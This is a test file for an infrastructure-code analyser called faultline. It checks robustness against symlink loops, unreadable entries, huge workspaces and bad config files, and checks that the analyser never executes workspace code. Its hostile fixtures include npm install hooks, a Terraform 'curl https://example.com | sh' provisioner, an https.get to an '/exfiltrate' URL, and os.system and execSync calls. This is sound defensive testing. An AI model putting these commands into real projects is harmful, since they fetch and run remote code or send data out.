/**
 * Workspaces that try to hurt: symlink loops, unreadable entries, 50,000 files, node_modules and .terraform caches,
 * bad faultline.json files, and a program that would write a file or phone home if anything ever ran it.
 */
import cpDefault, { spawnSync } from 'node:child_process';
import dns from 'node:dns';
import fsDefault from 'node:fs';
import * as fs from 'node:fs';
import http from 'node:http';
import https from 'node:https';
import { syncBuiltinESMExports } from 'node:module';
import net from 'node:net';
import * as os from 'node:os';
import * as path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { audit } from '../../shared/engine/audit';
import { loadConfigFile, parseConfig } from '../../shared/engine/config-file';
import { initEngine } from '../../shared/engine/frontends';
import { discoverFiles, groupPrograms } from '../../shared/engine/workspace';

const CLI = path.resolve(__dirname, '../../out/cli.js');
const LONG = process.env.FAULTLINE_FUZZ === 'long';
let tmp: string;

function cli(args: string[], cwd: string): { code: number | null; stdout: string; stderr: string; ms: number } {
  const t0 = performance.now();
  const r = spawnSync(process.execPath, [CLI, ...args], {
    cwd,
    encoding: 'utf8',
    env: { ...process.env, NO_COLOR: '1' },
    timeout: 120_000,
  });
  return { code: r.status, stdout: r.stdout, stderr: r.stderr, ms: performance.now() - t0 };
}

function write(file: string, text: string | Buffer): string {
  fs.mkdirSync(path.dirname(file), { recursive: true });
  fs.writeFileSync(file, text);
  return file;
}

const IS_ROOT = typeof process.getuid === 'function' && process.getuid() === 0;

/** True when chmod 000 really blocks this process (not root, not a file system that ignores modes). */
function chmodBlocks(dir: string): boolean {
  const probe = write(path.join(dir, 'probe.txt'), 'x');
  fs.chmodSync(probe, 0o000);
  try {
    fs.readFileSync(probe);
    return false;
  } catch {
    return true;
  } finally {
    fs.chmodSync(probe, 0o644);
    fs.rmSync(probe);
  }
}

/** Makes `method` of node:fs throw `code` for paths under `prefix`, also through `import * as fs` (ESM namespaces). */
function failFs<K extends 'readdirSync' | 'readFileSync' | 'statSync'>(method: K, prefix: string, code: string): () => void {
  const original = fsDefault[method] as (...a: unknown[]) => unknown;
  (fsDefault as unknown as Record<string, unknown>)[method] = (...args: unknown[]) => {
    if (String(args[0]).startsWith(prefix))
      throw Object.assign(new Error(`${code}: operation not permitted, ${method} '${String(args[0])}'`), { code });
    return original.apply(fsDefault, args);
  };
  syncBuiltinESMExports();
  return () => {
    (fsDefault as unknown as Record<string, unknown>)[method] = original;
    syncBuiltinESMExports();
  };
}

beforeAll(async () => {
  tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'faultline-ws-'));
  await initEngine();
});

afterAll(() => {
  fs.rmSync(tmp, { recursive: true, force: true });
});

describe('workspaces that try to hurt', () => {
  it('does not follow symlink loops and says which links it skipped', () => {
    const ws = path.join(tmp, 'loops');
    write(path.join(ws, 'main.tf'), 'resource "aws_s3_bucket" "b" {}\n');
    fs.symlinkSync(ws, path.join(ws, 'self'));
    fs.symlinkSync(path.join(ws, 'b'), path.join(ws, 'a'));
    fs.symlinkSync(path.join(ws, 'a'), path.join(ws, 'b'));
    fs.symlinkSync(path.join(ws, 'main.tf'), path.join(ws, 'alias.tf'));
    fs.symlinkSync(path.join(ws, 'gone.tf'), path.join(ws, 'dangling.tf'));
    fs.symlinkSync('/', path.join(ws, 'root'));
    const t0 = performance.now();
    const { files, skipped } = discoverFiles([ws]);
    expect(performance.now() - t0).toBeLessThan(2000);
    expect(files).toEqual([path.join(ws, 'main.tf')]);
    const reasons = Object.fromEntries(skipped.map((s) => [path.basename(s.path), s.reason]));
    expect(reasons).toEqual({
      self: 'symbolic link to a folder, not followed',
      root: 'symbolic link to a folder, not followed',
      a: 'symbolic link loop, not followed',
      b: 'symbolic link loop, not followed',
      'alias.tf': 'symbolic link to a file, not followed',
      'dangling.tf': 'broken symbolic link',
    });
    // a loop given on the command line is an error with a reason, not a hang
    const loop = discoverFiles([path.join(ws, 'a', 'x')]);
    expect(loop.files).toEqual([]);
    expect(loop.skipped[0]?.reason).toMatch(/symbolic link loop|does not exist/);
    const r = cli(['audit', '.', '--format', 'json'], ws);
    expect(r.code, r.stderr).not.toBe(2);
    const json = JSON.parse(r.stdout) as { skipped: { file: string; reason: string }[] };
    expect(json.skipped.map((s) => s.file).sort()).toEqual(['a', 'alias.tf', 'b', 'dangling.tf', 'root', 'self']);
  });

  it('lists unreadable folders and files with a reason (chmod 000, or a mocked EACCES when running as root)', async () => {
    const ws = path.join(tmp, 'unreadable');
    write(path.join(ws, 'ok', 'main.tf'), 'resource "aws_s3_bucket" "b" {}\n');
    const lockedFile = write(path.join(ws, 'ok', 'secret.tf'), 'resource "aws_s3_bucket" "c" {}\n');
    const lockedDir = path.join(ws, 'locked');
    write(path.join(lockedDir, 'main.tf'), 'resource "aws_s3_bucket" "d" {}\n');
    const real = !IS_ROOT && chmodBlocks(ws);
    let restore: (() => void)[] = [];
    if (real) {
      fs.chmodSync(lockedFile, 0o000);
      fs.chmodSync(lockedDir, 0o000);
    } else {
      // As root chmod blocks nothing: simulate the kernel's answer instead (the sub-assertion with real modes is
      // covered when the suite runs as an ordinary user).
      restore = [failFs('readdirSync', lockedDir, 'EACCES'), failFs('readFileSync', lockedFile, 'EACCES')];
    }
    try {
      const { files, skipped } = discoverFiles([ws]);
      expect(files).toContain(path.join(ws, 'ok', 'main.tf'));
      expect(skipped).toContainEqual({ path: lockedDir, reason: 'permission denied' });
      const result = await audit([ws], { jobs: 1 });
      expect(result.skipped).toContainEqual({ path: lockedFile, reason: 'cannot be read: permission denied' });
      expect(result.skipped).toContainEqual({ path: lockedDir, reason: 'permission denied' });
      expect(result.files).toBe(1);
    } finally {
      for (const r of restore) r();
      if (real) {
        fs.chmodSync(lockedFile, 0o644);
        fs.chmodSync(lockedDir, 0o755);
      }
    }
  });

  it("stops a file that needs more than its worker's heap limit as an analysis-timeout, and audits the rest", () => {
    const ws = path.join(tmp, 'heap-limit');
    // 2 MB of resources: about 60,000 of them, several hundred MB of model
    write(path.join(ws, 'big', '__main__.py'), 'import pulumi_aws as aws\n' + 'aws.s3.BucketV2("b", bucket="x")\n'.repeat(62_000));
    write(path.join(ws, 'small', 'main.tf'), 'resource "aws_cloudwatch_log_group" "app" {\n  name = "app"\n}\n');
    const r = cli(['audit', '.', '--format', 'json', '--max-memory', '64', '--no-progress'], ws);
    const findings = (JSON.parse(r.stdout) as { findings: { ruleId: string; message: string; file: string }[] }).findings;
    expect(findings.filter((f) => f.file.endsWith('__main__.py')).map((f) => [f.ruleId, f.message])).toEqual([
      ['analysis-timeout', 'analysis needed more than 64 MB of memory and was stopped; the file was not analysed'],
    ]);
    expect(findings.filter((f) => f.file.endsWith('main.tf')).map((f) => f.ruleId)).toContain('log-retention-missing');
    expect(cli(['audit', '.', '--max-memory', '8'], ws).stderr).toContain('--max-memory must be a whole number of megabytes, at least 32');
  });

  it('skips node_modules with thousands of .ts files and .terraform provider caches fast, and says so', () => {
    const ws = path.join(tmp, 'deps');
    write(path.join(ws, 'Pulumi.yaml'), 'name: deps\nruntime: nodejs\n');
    write(path.join(ws, 'index.ts'), "import * as aws from '@pulumi/aws';\nnew aws.s3.BucketV2('b', {});\n");
    for (let p = 0; p < 40; p++)
      for (let i = 0; i < 100; i++) write(path.join(ws, 'node_modules', `pkg${p}`, 'lib', `m${i}.ts`), `export const x${i} = ${i};\n`);
    write(path.join(ws, 'infra', 'main.tf'), 'resource "aws_s3_bucket" "b" {}\n');
    const provider = path.join(
      ws,
      'infra',
      '.terraform',
      'providers',
      'registry.terraform.io',
      'hashicorp',
      'aws',
      '5.70.0',
      'linux_amd64',
    );
    write(path.join(provider, 'terraform-provider-aws_v5.70.0_x5'), Buffer.alloc(2 * 1024 * 1024, 0x7f));
    for (let i = 0; i < 200; i++)
      write(path.join(ws, 'infra', '.terraform', 'modules', `m${i}`, 'main.tf'), 'resource "aws_s3_bucket" "x" {}\n');
    write(path.join(ws, 'infra', '.terraform', 'environment'), 'default');
    write(path.join(ws, 'py', '.venv', 'pyvenv.cfg'), 'home = /usr/bin\n');
    write(path.join(ws, 'py', '.venv', 'lib', 'site.py'), 'import os\n');
    write(path.join(ws, 'py', 'env2', 'pyvenv.cfg'), 'home = /usr/bin\n');
    write(path.join(ws, 'py', 'env2', 'x.py'), 'import os\n');

    const t0 = performance.now();
    const { files, skipped } = discoverFiles([ws]);
    const ms = performance.now() - t0;
    expect(ms).toBeLessThan(1000);
    expect(files.map((f) => path.relative(ws, f)).sort()).toEqual(['index.ts', 'infra/main.tf']);
    expect(skipped.map((s) => [path.relative(ws, s.path), s.reason])).toEqual([
      ['infra/.terraform', 'Terraform provider and module cache (.terraform) is not analysed'],
      ['node_modules', 'dependency folder (node_modules) is not analysed'],
      ['py/.venv', 'Python virtual environment is not analysed'],
      ['py/env2', 'Python virtual environment is not analysed'],
    ]);
  });

  it(`discovers and groups ${LONG ? '50,000' : '20,000 (50,000 in the long run)'} files in bounded time`, () => {
    const ws = path.join(tmp, 'many');
    const n = Number(process.env.FAULTLINE_MANY_FILES ?? (LONG ? 50_000 : 20_000));
    const perDir = 500;
    for (let d = 0; d < n / perDir; d++) {
      const dir = path.join(ws, `mod${d}`);
      fs.mkdirSync(dir, { recursive: true });
      for (let i = 0; i < perDir; i++) fs.writeFileSync(path.join(dir, `f${i}.tf`), '');
    }
    const t0 = performance.now();
    const { files, skipped } = discoverFiles([ws]);
    const units = groupPrograms(files);
    const ms = performance.now() - t0;
    console.log(`discover + group ${n} files: ${Math.round(ms)} ms`);
    expect(files.length).toBe(n);
    expect(skipped).toEqual([]);
    expect(units.length).toBe(n / perDir);
    expect(ms).toBeLessThan(15_000);
    fs.rmSync(ws, { recursive: true, force: true });
  }, 120_000);

  it('refuses a faultline.json that is invalid JSON, the wrong shape or huge, with a clear message', () => {
    const ws = path.join(tmp, 'config');
    write(path.join(ws, 'main.tf'), 'resource "aws_s3_bucket" "b" {}\n');
    const cases: [string, string | Buffer, RegExp][] = [
      ['invalid', '{ "profile": "production", ', /faultline\.json:1:\d+: invalid JSON/],
      ['comments', '// hi\n{}', /faultline\.json:1:1: invalid JSON/],
      ['array', '[1, 2, 3]', /faultline\.json:1:1: .*must be object/],
      ['string', '"production"', /faultline\.json:1:1: .*must be object/],
      ['wrong-types', '{ "profile": 42, "rules": [], "ignore": "x" }', /faultline\.json:1:\d+: .*(must be|one of)/],
      ['unknown-key', '{ "profiles": "production" }', /faultline\.json:1:3: unknown key "profiles"/],
      [
        'bad-severity',
        '{ "rules": { "rds-multi-az-disabled": "fatal" } }',
        /faultline\.json:1:\d+: \/rules\/rds-multi-az-disabled must be one of/,
      ],
      ['binary', Buffer.from([0xff, 0xfe, 0x00, 0x7b, 0x00, 0x7d]), /faultline\.json:1:1: invalid JSON/],
      ['bom', '\uFEFF{}', /faultline\.json:1:1: invalid JSON|^$/],
      ['empty', '', /faultline\.json:1:1: invalid JSON/],
      ['huge', `{ "ignore": [${Array.from({ length: 200_000 }, (_, i) => `"dir${i}/**"`).join(',')}] }`, /larger than 1 MB/],
      ['huge-deep', '['.repeat(600_000) + ']'.repeat(600_000), /larger than 1 MB/],
      ['deep', '['.repeat(500_000) + ']'.repeat(500_000), /faultline\.json:1:65: invalid configuration: nested more than 64 levels deep/],
      [
        'deep-small',
        '{ "ignore": ' + '['.repeat(100_000) + ']'.repeat(100_000) + ' }',
        /faultline\.json:1:76: invalid configuration: nested more than 64 levels deep/,
      ],
    ];
    const problems: string[] = [];
    // every case through the loader the CLI uses, with the CLI's file:line:col prefix
    for (const [name, text, expected] of cases) {
      const file = write(path.join(ws, 'faultline.json'), text);
      const t0 = performance.now();
      const { errors } = loadConfigFile(file);
      const ms = performance.now() - t0;
      const e = errors[0];
      const shown = e ? `faultline.json:${e.loc.range.start.line + 1}:${e.loc.range.start.character + 1}: ${e.message}` : '';
      if (name === 'bom' && !e) continue; // a BOM may be accepted; it must not crash either way
      if (!expected.test(shown)) problems.push(`${name}: ${JSON.stringify(shown.slice(0, 300))}`);
      if (ms > 5000) problems.push(`${name}: took ${Math.round(ms)} ms`);
    }
    // and a few through the CLI itself: exit 2 and one clear line, no stack trace
    for (const name of ['invalid', 'array', 'huge', 'deep']) {
      const [, text, expected] = cases.find((c) => c[0] === name)!;
      write(path.join(ws, 'faultline.json'), text);
      const r = cli(['audit', '.'], ws);
      if (r.code !== 2 || !expected.test(r.stderr) || r.stderr.includes('    at '))
        problems.push(`cli ${name}: exit ${r.code}, stderr ${JSON.stringify(r.stderr.slice(0, 300))}`);
    }
    expect(problems).toEqual([]);
    // the language server's parser: never throws, errors located inside the document
    for (const [name, text] of cases) {
      const t = typeof text === 'string' ? text : text.toString('utf8');
      let res: ReturnType<typeof parseConfig> | undefined;
      expect(() => (res = parseConfig(t, '/ws/faultline.json')), name).not.toThrow();
      for (const e of res!.errors) expect(e.loc.end, name).toBeLessThanOrEqual(t.length);
    }
  }, 120_000);
});

describe('never executing, never phoning home', () => {
  it('analyses programs that would write a file or open a connection without running anything', async () => {
    const ws = path.join(tmp, 'hostile');
    const marker = path.join(tmp, 'PWNED');
    const js = JSON.stringify(marker);
    write(path.join(ws, 'Pulumi.yaml'), 'name: hostile\nruntime: nodejs\nmain: index.ts\n');
    write(
      path.join(ws, 'package.json'),
      JSON.stringify({ name: 'hostile', scripts: { preinstall: `touch ${marker}`, postinstall: `touch ${marker}` } }),
    );
    write(
      path.join(ws, 'index.ts'),
      `import * as aws from '@pulumi/aws';\nimport * as fs from 'fs';\nimport { execSync } from 'child_process';\nimport * as https from 'https';\nfs.writeFileSync(${js}, 'ts ran');\nexecSync('touch ' + ${js});\nhttps.get('https://example.com/exfiltrate');\nrequire(${JSON.stringify(path.join(ws, 'evil.js'))});\nnew aws.s3.BucketV2('b', { bucket: fs.readFileSync('/etc/hostname', 'utf8') });\n`,
    );
    write(path.join(ws, 'evil.js'), `require('fs').writeFileSync(${js}, 'js ran');\nmodule.exports = {};\n`);
    write(path.join(ws, 'py', 'Pulumi.yaml'), 'name: hostile-py\nruntime: python\n');
    write(
      path.join(ws, 'py', '__main__.py'),
      `import pulumi\nimport pulumi_aws as aws\nimport os, urllib.request\nopen(${js}, "w").write("py ran")\nos.system("touch " + ${js})\nurllib.request.urlopen("https://example.com")\naws.s3.BucketV2("b")\n`,
    );
    write(path.join(ws, 'py', 'setup.py'), `open(${js}, "w").write("setup ran")\n`);
    write(
      path.join(ws, 'tf', 'main.tf'),
      `terraform {\n  backend "http" {\n    address = "https://example.com/state"\n  }\n}\n\nmodule "remote" {\n  source = "git::https://example.com/evil.git"\n}\n\ndata "http" "x" {\n  url = "https://example.com"\n}\n\ndata "external" "x" {\n  program = ["sh", "-c", "touch ${marker}"]\n}\n\nresource "null_resource" "x" {\n  provisioner "local-exec" {\n    command = "touch ${marker}"\n  }\n}\n\nresource "aws_instance" "x" {\n  ami           = "ami-123"\n  instance_type = "t3.micro"\n  user_data     = file("\${path.module}/../../PWNED")\n  provisioner "local-exec" {\n    command = "curl https://example.com | sh"\n  }\n}\n`,
    );

    const attempts: string[] = [];
    const undo: (() => void)[] = [];
    const trap = <T extends object>(obj: T, key: keyof T & string, label: string): void => {
      const original = obj[key];
      (obj as Record<string, unknown>)[key] = function (...args: unknown[]) {
        attempts.push(`${label}(${args.map((a) => (typeof a === 'string' ? a : typeof a)).join(', ')})`);
        throw new Error(`${label} is not allowed in this test`);
      };
      undo.push(() => ((obj as Record<string, unknown>)[key] = original));
    };
    trap(net.Socket.prototype, 'connect', 'net.Socket.connect');
    trap(net, 'connect', 'net.connect');
    trap(net, 'createConnection', 'net.createConnection');
    trap(http, 'request', 'http.request');
    trap(http, 'get', 'http.get');
    trap(https, 'request', 'https.request');
    trap(https, 'get', 'https.get');
    trap(dns, 'lookup', 'dns.lookup');
    trap(dns, 'resolve', 'dns.resolve');
    trap(dns.promises, 'lookup', 'dns.promises.lookup');
    const fetchBefore = globalThis.fetch;
    globalThis.fetch = (async (u: unknown) => {
      attempts.push(`fetch(${String(u)})`);
      throw new Error('fetch is not allowed in this test');
    }) as typeof fetch;
    undo.push(() => (globalThis.fetch = fetchBefore));
    // child_process and worker threads spawning programs from the workspace
    for (const k of ['spawn', 'spawnSync', 'exec', 'execSync', 'execFile', 'execFileSync', 'fork'] as const)
      trap(cpDefault, k, `child_process.${k}`);
    syncBuiltinESMExports();
    try {
      const result = await audit([ws], { jobs: 1 });
      expect(result.files).toBe(5); // index.ts, evil.js, py/__main__.py, py/setup.py, tf/main.tf
      expect(result.findings.filter((f) => f.ruleId === 'internal-error')).toEqual([]);
    } finally {
      for (const u of undo.reverse()) u();
      syncBuiltinESMExports();
    }
    expect(attempts).toEqual([]);
    expect(fs.existsSync(marker)).toBe(false);

    // and the shipped CLI, with its worker pool, in a process whose network and process APIs are trapped
    const preload = write(
      path.join(tmp, 'trap.cjs'),
      `const fs = require('fs'); const log = ${JSON.stringify(path.join(tmp, 'attempts.log'))};
const deny = (label) => function () { fs.appendFileSync(log, label + '\\n'); throw new Error(label + ' denied'); };
const net = require('net'); net.Socket.prototype.connect = deny('net.Socket.connect');
for (const m of ['http', 'https']) { const x = require(m); x.request = deny(m + '.request'); x.get = deny(m + '.get'); }
const dns = require('dns'); dns.lookup = deny('dns.lookup'); dns.resolve = deny('dns.resolve');
const cp = require('child_process'); for (const k of ['spawn', 'spawnSync', 'exec', 'execSync', 'execFile', 'execFileSync', 'fork']) cp[k] = deny('child_process.' + k);
globalThis.fetch = deny('fetch');
require('module').syncBuiltinESMExports();\n`,
    );
    const r = spawnSync(
      process.execPath,
      ['--require', preload, CLI, 'audit', '.', '--jobs', '2', '--format', 'json', '--no-progress', '--profile', 'ephemeral'],
      {
        cwd: ws,
        encoding: 'utf8',
        env: { ...process.env, NO_COLOR: '1' },
      },
    );
    expect(r.status, r.stderr).toBe(1);
    expect((JSON.parse(r.stdout) as { files: number }).files).toBe(5);
    expect(fs.existsSync(path.join(tmp, 'attempts.log')) ? fs.readFileSync(path.join(tmp, 'attempts.log'), 'utf8') : '').toBe('');
    expect(fs.existsSync(marker)).toBe(false);
  }, 60_000);
});
